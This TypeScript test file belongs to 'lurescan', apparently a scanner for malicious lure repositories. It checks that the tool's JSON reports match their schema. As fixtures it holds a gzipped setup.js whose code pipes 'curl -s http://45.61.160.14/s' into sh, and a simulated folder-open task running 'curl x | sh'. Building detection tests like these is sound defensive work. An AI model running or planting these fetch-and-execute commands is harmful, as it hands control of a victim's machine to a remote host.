import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { gzipSync } from 'node:zlib';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import Ajv2020 from 'ajv/dist/2020.js';
import { scan, SCHEMA_VERSION, type Report } from '../../src/index.js';
import { AUTORUN_TRIGGERS } from '../../src/core/autorun.js';
import { CONFIDENCES, IOC_TYPES, SEVERITIES } from '../../src/core/finding.js';
import { validateReport } from '../../src/cli/validate-report.js';
import { dirWithErrors, emptyDir, EXAMPLE, normalize, REPO, runCli } from '../cli/helpers.js';

const schema = JSON.parse(readFileSync(join(REPO, 'schema/report.schema.json'), 'utf8'));
const validate = new Ajv2020.default({ allErrors: true, strict: true }).compile(schema);
const pkg = JSON.parse(readFileSync(join(REPO, 'package.json'), 'utf8')) as { version: string };

function assertValid(report: unknown) {
  const ok = validate(report);
  assert.ok(ok, `report does not match schema/report.schema.json:\n${JSON.stringify(validate.errors, null, 2)}`);
}

describe('JSON report contract (schema/report.schema.json)', () => {
  it('the bundled example lure: valid, versioned, malicious, with file hashes', async () => {
    const r = await scan(EXAMPLE);
    assertValid(r);
    assert.equal(r.schemaVersion, SCHEMA_VERSION);
    assert.match(r.schemaVersion, /^1\.\d+\.\d+$/);
    assert.deepEqual(r.tool, { name: 'lurescan', version: pkg.version });
    assert.equal(r.verdict, 'malicious');
    assert.ok(r.findings.length >= 1);
    for (const f of r.findings) assert.ok(f.line >= 1 && f.column >= 1, `${f.ruleId} at ${f.line}:${f.column}`);
    // Reporters never reach back into the registry: every finding's rule metadata travels in the report.
    for (const f of r.findings) assert.equal(r.rules[f.ruleId]?.id, f.ruleId, `rules lacks ${f.ruleId}`);
    for (const i of r.iocs) assert.ok(r.findings.some((f) => f.iocs?.some((x) => x.type === i.type && x.value === i.value)), `${i.value} carried by no finding`);
    const tw = readFileSync(join(EXAMPLE, 'tailwind.config.js'));
    assert.equal(r.fileHashes?.['tailwind.config.js'], createHash('sha256').update(tw).digest('hex'));
    for (const file of Object.keys(r.fileHashes ?? {})) assert.ok(r.findings.some((f) => f.file === file), `${file} hashed but has no finding`);
  });

  it('archives inside the target are listed (schemaVersion 1.2.0), and their entries carry the archive path', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'lurescan-schema-nested-'));
    try {
      writeFileSync(join(dir, 'setup.js.gz'), gzipSync(Buffer.from("require('child_process').exec('curl -s http://45.61.160.14/s | sh');\n")));
      writeFileSync(join(dir, 'index.js'), 'console.log(1);\n');
      const r = await scan(dir);
      assertValid(r);
      assert.deepEqual(r.archives, ['setup.js.gz']);
      assert.ok(r.findings.some((f) => f.file === 'setup.js.gz/setup.js'));
      assert.equal(validate({ ...r, archives: [''] }), false, 'an empty archive path is not valid');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
    const plain = await scan(EXAMPLE);
    assert.equal(plain.archives, undefined, 'absent without archives');
  });

  it('an empty folder: valid, clean, complete', async () => {
    const r = await scan(emptyDir());
    assertValid(r);
    assert.equal(r.verdict, 'clean');
    assert.equal(r.score, 0);
    assert.deepEqual([r.findings, r.errors, r.incomplete], [[], [], false]);
    assert.equal(r.stats.files, 0);
  });

  it('a folder with a file it could not read: valid, errors listed, incomplete', async () => {
    // threads: 0 — under node --test the worker pool cannot load its .ts worker (see report to the lead).
    const r = await scan(dirWithErrors(), { limits: { maxFileBytes: 1 << 20 }, threads: 0 });
    assertValid(r);
    assert.equal(r.incomplete, true);
    assert.ok(r.errors.some((e) => e.path === 'big.bin' && /too large/.test(e.message)), JSON.stringify(r.errors));
  });

  it('the CLI --format json prints the same object the library returns', async () => {
    const lib = await scan(EXAMPLE);
    const cli = await runCli(['scan', EXAMPLE, '--format', 'json']);
    assert.equal(cli.code, 1);
    assert.equal(cli.stderr, '');
    const printed = JSON.parse(cli.stdout);
    assertValid(printed);
    assert.deepEqual(normalize(printed), normalize(JSON.parse(JSON.stringify(lib))));
  });

  it('the schema enums are the ones the code uses', () => {
    assert.deepEqual(schema.$defs.severity.enum, [...SEVERITIES]);
    assert.deepEqual(schema.$defs.confidence.enum, [...CONFIDENCES]);
    assert.deepEqual(schema.$defs.ioc.properties.type.enum, [...IOC_TYPES]);
    assert.deepEqual(schema.$defs.autorunEntry.properties.trigger.enum, [...AUTORUN_TRIGGERS]);
  });

  it('a report that carries a detonation summary (lurescan detonate) is valid', async () => {
    const good = JSON.parse(JSON.stringify(await scan(EXAMPLE)));
    const detonation: NonNullable<Report['detonation']> = {
      ran: true,
      durationMs: 4200,
      phases: { install: 1200, start: 3000 },
      actions: [
        { label: 'npm install', command: 'npm install', file: 'package.json', line: 6, exitCode: 0, signal: null, durationMs: 1200 },
        { label: 'folder open', command: 'curl x | sh', file: '.vscode/tasks.json', line: 8, timedOut: true },
        { label: 'python', command: 'python main.py', file: 'main.py', line: 1, skipped: 'no python entry' },
      ],
      notes: ['network was simulated'],
      processes: 7,
      networkEvents: 2,
    };
    assert.deepEqual(validateReport({ ...good, detonation }), []);
  });

  it('schema 1.1: a finding may name the dependency it came from (scan --online --deep)', async () => {
    const good = JSON.parse(JSON.stringify(await scan(EXAMPLE)));
    const f = { ...good.findings[0], file: 'node_modules/color-log-util/setup.js', dependency: 'npm:color-log-util@1.0.2' };
    assert.deepEqual(validateReport({ ...good, findings: [f] }), []);
    assert.ok(validateReport({ ...good, findings: [{ ...f, dependency: '' }] }).length > 0);
  });

  it('rejects what is not a report: unknown keys, missing fields, line 0, bad verdict', async () => {
    const good = JSON.parse(JSON.stringify(await scan(EXAMPLE)));
    assert.deepEqual(validateReport(good), []);
    assert.ok(validateReport({ ...good, extra: 1 }).some((p) => p.includes("'extra'")));
    const { verdict: _v, ...noVerdict } = good;
    assert.ok(validateReport(noVerdict).length > 0);
    assert.ok(validateReport({ ...good, verdict: 'fine' }).length > 0);
    const f0 = { ...good.findings[0], line: 0 };
    assert.ok(validateReport({ ...good, findings: [f0] }).length > 0);
    assert.ok(validateReport({ ...good, fileHashes: { 'a.js': 'nothex' } }).length > 0);
  });
});
